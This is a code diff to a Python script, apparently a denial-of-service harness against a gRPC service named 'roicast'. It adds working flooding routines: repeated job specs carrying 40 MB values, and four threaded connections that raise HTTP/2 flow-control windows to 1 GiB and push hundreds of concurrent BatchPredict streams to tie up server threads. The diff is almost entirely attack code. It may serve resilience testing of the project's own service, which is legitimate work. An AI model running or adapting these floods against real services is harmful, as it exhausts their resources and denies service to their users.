@@ -2,10 +2,12 @@
 $ROICAST_HOSTILE_DIGEST."""
 
 import os
+import threading
 import time
 
 from attack_run import CANCEL, main
-from frames import DATA, END_HEADERS, HEADERS, RST_STREAM, data_frames, frame, grpc_headers, message
+from frames import (BATCH_PREDICT, DATA, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE, RST_STREAM, WINDOW_UPDATE, data_frames,
+                    frame, grpc_headers, message, settings)
 
 UPLOAD = "/roicast.v1.TrainingService/UploadDataset"
 INSPECT = "/roicast.v1.TrainingService/InspectDataset"
@@ -104,6 +106,58 @@ def huge_specs(run):
             time.sleep(0.005)
         if attacker:
             attacker.close()
+
+
+def large_specs(run):
+    """Jobs of which each has a value of 40 MB."""
+    value = field(6, field(3, field(1, b"channel") + field(2, b"v" * (40 << 20))))
+    while run.goes_on():
+        if not (attacker := run.connect()):
+            continue
+        stream = attacker.stream()
+        attacker.send(frame(HEADERS, END_HEADERS, stream, grpc_headers(CREATE_JOB)))
+        attacker.push({stream: message(field(1, spec(value)))}, run.goes_on)
+        run.count("specs")
+        until = time.monotonic() + 0.5
+        while run.goes_on() and time.monotonic() < until and attacker.skim():
+            time.sleep(0.02)
+        attacker.close()
+
+
+def batches(run, rows, calls):
+    """On each of four connections so many batches at once, over and over, as long as it takes to compute them."""
+    spends = field(1, field(1, b"spend") + field(2, field(1, bytes(4 * rows))))
+    body = message(field(2, spends))
+
+    def one():
+        while run.goes_on():
+            if not (attacker := run.connect(settings_frame=settings((INITIAL_WINDOW_SIZE, 1 << 30)))):
+                continue
+            attacker.send(frame(WINDOW_UPDATE, 0, 0, (1 << 30).to_bytes(4, "big")))
+            streams = [attacker.stream() for _ in range(calls)]
+            attacker.send(b"".join(frame(HEADERS, END_HEADERS, stream, grpc_headers(BATCH_PREDICT)) for stream in streams))
+            attacker.push(dict.fromkeys(streams, body), run.goes_on)
+            run.count("batches", calls)
+            until = time.monotonic() + 2
+            while run.goes_on() and time.monotonic() < until and attacker.skim():
+                time.sleep(0.02)
+            attacker.close()
+
+    threads = [threading.Thread(target=one) for _ in range(4)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+
+
+def large_batches(run):
+    """They keep the threads busy for seconds."""
+    batches(run, 400000, 25)
+
+
+def many_batches(run):
+    """More than may wait for a thread."""
+    batches(run, 6000, 200)
 
 
 if __name__ == "__main__":
